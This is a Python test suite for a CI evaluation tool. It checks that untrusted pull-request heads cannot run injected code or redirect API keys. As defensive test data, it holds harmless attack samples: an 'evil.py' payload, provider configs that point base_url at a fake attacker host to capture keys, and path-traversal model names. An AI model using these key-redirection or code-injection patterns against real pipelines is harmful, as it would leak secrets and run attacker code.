"""An untrusted head (pull_request_target with the PR head checked out; a GitLab fork MR pipeline run
in the parent project): no user code of the head runs through any path, and the head cannot choose
where a key is sent. Each attacker host is a loopback fake that must receive nothing.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from harness_ci import (
    JOB_TOKEN,
    OPENAI_KEY,
    Outcome,
    Repo,
    cases_prompt,
    config,
    github_env,
    make_repo,
    run_cli,
)

from fakes.forge import FakeForge
from fakes.llm import FakeLLM

EVIL = "import pathlib\npathlib.Path('PWNED').write_text('ran')\n\ndef run(*args, **kwargs):\n    return 'x'\n"
RUBRIC = "{type: llm-rubric, value: 'is polite'}"


@pytest.fixture
def attacker() -> Iterator[FakeLLM]:
    """The PR author's server: it must never be called, least of all with a key."""
    with FakeLLM() as llm:
        yield llm


@pytest.fixture
def forge() -> Iterator[FakeForge]:
    with FakeForge(token="ghs_PLANTED_github_token_51f2") as f:
        yield f


def target_run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
               repo: Repo, forge: FakeForge, event: str = "pull_request_target") -> Outcome:
    env = github_env(tmp_path, repo, forge.url, event)
    return run_cli(monkeypatch, capsys, env, repo.root, ["ci", "--baseline", "none", "--no-cache"])


def head_repo(tmp_path: Path, base_cfg: str, head: dict[str, str]) -> Repo:
    """The base has `base_cfg` and a model-only prompt; the PR head changes what `head` names."""
    files = {"eval-action.yaml": base_cfg, "p.prompt.yaml": cases_prompt(1)}
    return make_repo(tmp_path, files, head_files={"evil.py": EVIL, **head})


def refused(out: Outcome, repo: Repo, forge: FakeForge, *words: str) -> None:
    assert out.code == 2, out.stdout + out.stderr
    [line] = [ln for ln in out.stderr.splitlines() if ln.startswith("eval-action: error: ")]
    for word in words:
        assert word in line, line
    assert "Traceback" not in out.stderr
    assert not (repo.root / "PWNED").exists()
    # nothing half-posted: at most the one comment that says why nothing ran
    posted = [c["body"] for comments in forge.comments.values() for c in comments]
    assert all("configuration error" in body and "refus" in body for body in posted), posted
    assert len(forge.writes()) == len(posted) <= 1


# ---------------------------------------------------------------- item 1: no head user code, any path
USER_CODE_PATHS = {
    "defaults-grader": lambda url: {
        "eval-action.yaml": (f"providers:\n  default: {{type: openai, model: fake-model, base_url: '{url}/v1'}}\n"
                             "  judge: {type: python, function: 'evil.py:run'}\n"
                             "defaults: {grader: judge, timeout_s: 2, retries: 0}\n"),
        "p.prompt.yaml": cases_prompt(1, RUBRIC)},
    "inline-rubric-provider": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: llm-rubric, value: ok, provider: {type: python, "
                                         "function: 'evil.py:run'}}")},
    "similar-provider": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: similar, value: hi, provider: {type: python, "
                                         "function: 'evil.py:run'}}")},
    "command-grader": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: llm-rubric, value: ok, provider: {type: command, "
                                         "command: [python3, evil.py]}}")},
    "python-target": lambda url: {
        "p.prompt.yaml": cases_prompt(1).replace("provider: default",
                                                 "provider: {type: python, function: 'evil.py:run'}")},
    "python-scorer": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: python, value: 'evil.py:run'}")},
    "python-in-assert-set": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: assert-set, assert: [{type: python, value: 'evil.py:run'}]}")},
    "javascript-scorer": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: javascript, "
                                         "value: 'require(\"fs\").writeFileSync(\"PWNED\", \"\")'}")},
    "transform": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: contains, value: x, transform: 'output'}")},
    "context-transform": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: context-recall, value: x, contextTransform: 'output'}")},
    "grader-in-a-rows-assert": lambda url: {
        "p.prompt.yaml": cases_prompt(1).replace(
            "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
            "provider: {type: python, function: 'evil.py:run'}}]}")},
    "grader-in-assert-set": lambda url: {
        "p.prompt.yaml": cases_prompt(1, "{type: assert-set, assert: [{type: llm-rubric, value: ok, "
                                         "provider: {type: python, function: 'evil.py:run'}}]}")},
}


@pytest.mark.parametrize("path", sorted(USER_CODE_PATHS))
def test_untrusted_head_runs_no_user_code_through_any_path(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        fake_llm: FakeLLM, forge: FakeForge, path: str) -> None:
    head = USER_CODE_PATHS[path](fake_llm.url)
    repo = head_repo(tmp_path, config(fake_llm.url), head)
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge)
    refused(out, repo, forge, "refusing", "p.prompt.yaml", "allow-untrusted-code")
    assert fake_llm.requests == []


# ---------------------------------------------------------------- item 2: the base decides where keys go
KEY_DESTINATIONS = {
    "config-base-url": lambda evil: {
        "eval-action.yaml": config(evil)},
    "inline-provider": lambda evil: {
        "p.prompt.yaml": cases_prompt(1).replace(
            "provider: default", f"provider: {{type: openai, model: m, base_url: '{evil}/v1'}}")},
    "prompty-configuration": lambda evil: {
        "q.prompty": ("---\nname: q\nmodel:\n  api: chat\n  configuration:\n    type: openai\n"
                      f"    model: m\n    base_url: '{evil}/v1'\n"
                      "evals:\n  cases:\n    - {vars: {q: hi}}\n  scorers:\n    - {type: contains, value: x}\n"
                      "---\nuser:\n{{q}}\n")},
    "prompty-azure-endpoint": lambda evil: {
        "q.prompty": ("---\nname: q\nmodel:\n  configuration:\n    type: azure_openai\n"
                      f"    azure_endpoint: '{evil}'\n    azure_deployment: d\n    api_key: ${{env:OPENAI_API_KEY}}\n"
                      "evals:\n  cases:\n    - {vars: {q: hi}}\n  scorers:\n    - {type: contains, value: x}\n"
                      "---\nuser:\n{{q}}\n")},
    "rubric-provider": lambda evil: {
        "p.prompt.yaml": cases_prompt(1, "{type: llm-rubric, value: ok, provider: {type: openai, model: m, "
                                         f"base_url: '{evil}/v1'}}}}")},
    "rows-rubric-provider": lambda evil: {
        "p.prompt.yaml": cases_prompt(1).replace(
            "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
            f"provider: {{type: openai, model: m, base_url: '{evil}/v1'}}}}]}}")},
    "moderation-provider": lambda evil: {
        "p.prompt.yaml": cases_prompt(1, "{type: moderation, provider: {type: openai, model: m, "
                                         f"base_url: '{evil}/v1'}}}}")},
    "classifier-provider": lambda evil: {
        "p.prompt.yaml": cases_prompt(1, "{type: classifier, provider: {type: huggingface, model: m, "
                                         f"base_url: '{evil}'}}}}")},
    "api-key-env": lambda evil: {},  # the head keeps the base's host but sends another variable
    "agentmark-provider-prefix": lambda evil: {  # a provider type the base's config does not define
        "q.prompt.mdx": ("---\ntext_config:\n  model_name: anthropic/claude-opus-4\ntest_settings:\n"
                         "  evals: [exact_match]\n  cases: [{input: {q: hi}, expected_output: hi}]\n---\n"
                         "<User>{props.q}</User>\n")},
}


@pytest.mark.parametrize("where", sorted(KEY_DESTINATIONS))
def test_untrusted_head_cannot_choose_where_the_key_goes(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        fake_llm: FakeLLM, attacker: FakeLLM, forge: FakeForge, where: str) -> None:
    head = KEY_DESTINATIONS[where](attacker.url)
    if where == "api-key-env":
        head = {"eval-action.yaml": "secrets: [DEPLOY_SECRET]\n" + config(fake_llm.url).replace(
            "base_url:", "api_key_env: DEPLOY_SECRET, base_url:")}
        monkeypatch.setenv("DEPLOY_SECRET", "PLANTED-deploy-secret-0042")
    repo = head_repo(tmp_path, config(fake_llm.url), head)
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge)
    refused(out, repo, forge, "refus", "base")
    assert attacker.requests == []
    assert all("PLANTED-deploy" not in str(r.headers) for r in fake_llm.requests)


def test_untrusted_head_with_the_base_providers_still_runs(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        fake_llm: FakeLLM, forge: FakeForge) -> None:
    repo = make_repo(tmp_path, {"eval-action.yaml": config(fake_llm.url), "p.prompt.yaml": cases_prompt(1)})
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge)
    assert out.code == 0, out.stderr
    assert {r.headers.get("authorization") for r in fake_llm.requests} == {f"Bearer {OPENAI_KEY}"}


# ---------------------------------------------------------------- api_key_env names only declared secrets
def test_api_key_env_must_be_a_declared_secret(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path, fake_llm: FakeLLM, forge: FakeForge) -> None:
    cfg = config(fake_llm.url).replace("base_url:", "api_key_env: DEPLOY_SECRET, base_url:")
    repo = make_repo(tmp_path, {"eval-action.yaml": cfg, "p.prompt.yaml": cases_prompt(1)})
    monkeypatch.setenv("DEPLOY_SECRET", "PLANTED-deploy-secret-0042")
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge, "pull_request")
    assert out.code == 2, out.stderr
    assert "DEPLOY_SECRET" in out.stderr and "secrets:" in out.stderr
    assert fake_llm.requests == []


def test_a_declared_secret_may_be_the_key(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
                                          tmp_path: Path, fake_llm: FakeLLM, forge: FakeForge) -> None:
    cfg = "secrets: [LLM_PAT]\n" + config(fake_llm.url).replace("base_url:", "api_key_env: LLM_PAT, base_url:")
    repo = make_repo(tmp_path, {"eval-action.yaml": cfg, "p.prompt.yaml": cases_prompt(1)})
    monkeypatch.setenv("LLM_PAT", "PLANTED-llm-pat-0042")
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge, "pull_request")
    assert out.code == 0, out.stderr
    assert {r.headers.get("authorization") for r in fake_llm.requests} == {"Bearer PLANTED-llm-pat-0042"}


# ---------------------------------------------------------------- GitLab fork MR pipeline in the parent project
def test_gitlab_fork_mr_in_the_parent_project_refuses_head_code(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo = head_repo(tmp_path, "providers:\n  default: {type: openai, model: m}\n", {
        "p.prompt.yaml": cases_prompt(1).replace("provider: default",
                                                 "provider: {type: python, function: 'evil.py:run'}")})
    with FakeForge(token="glpat-PLANTED-note-token-77") as forge:
        env = {"CI": "true", "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event",
               "CI_MERGE_REQUEST_IID": "3", "CI_MERGE_REQUEST_DIFF_BASE_SHA": repo.base, "CI_COMMIT_SHA": repo.head,
               "CI_PROJECT_ID": "42", "CI_MERGE_REQUEST_PROJECT_ID": "42", "CI_MERGE_REQUEST_SOURCE_PROJECT_ID": "99",
               "CI_API_V4_URL": forge.url + "/api/v4", "CI_JOB_TOKEN": JOB_TOKEN,
               "GITLAB_TOKEN": "glpat-PLANTED-note-token-77"}
        out = run_cli(monkeypatch, capsys, env, repo.root, ["ci", "--baseline", "none"])
        refused(out, repo, forge, "refusing", "p.prompt.yaml")


# ---------------------------------------------------------------- a model name stays a model name
HF_CONFIG = "  hf: {{type: huggingface, model: '{model}', base_url: '{url}', api_key_env: HF_TOKEN}}\n"


def hf_config(url: str, model: str) -> str:
    return config(url).replace("defaults:", HF_CONFIG.format(model=model, url=url) + "defaults:")


@pytest.mark.parametrize("model", ["../../../api/whoami-v2", "org/./x", "org//x", "org/.."])
def test_untrusted_head_model_name_cannot_leave_the_models_path(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        fake_llm: FakeLLM, forge: FakeForge, model: str) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_PLANTED_token_0042")
    base = hf_config(fake_llm.url, "org/model")
    head = {"eval-action.yaml": hf_config(fake_llm.url, model),
            "p.prompt.yaml": cases_prompt(1, "{type: classifier, provider: hf, value: POSITIVE}")}
    repo = head_repo(tmp_path, base, head)
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge)
    assert out.code == 2, out.stdout + out.stderr
    assert "eval-action.yaml" in out.stderr and "model" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr
    assert fake_llm.requests == []


def test_owner_slash_model_classifier_still_reaches_the_models_path(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        fake_llm: FakeLLM, forge: FakeForge) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_PLANTED_token_0042")
    fake_llm.classify_with(lambda text: {"POSITIVE": 0.9})
    cfg = hf_config(fake_llm.url, "org/model-1.5")
    repo = make_repo(tmp_path, {"eval-action.yaml": cfg,
                                "p.prompt.yaml": cases_prompt(1, "{type: classifier, provider: hf, value: POSITIVE}")})
    out = target_run(monkeypatch, capsys, tmp_path, repo, forge)
    assert out.code == 0, out.stdout + out.stderr
    assert "/models/org/model-1.5" in fake_llm.paths()
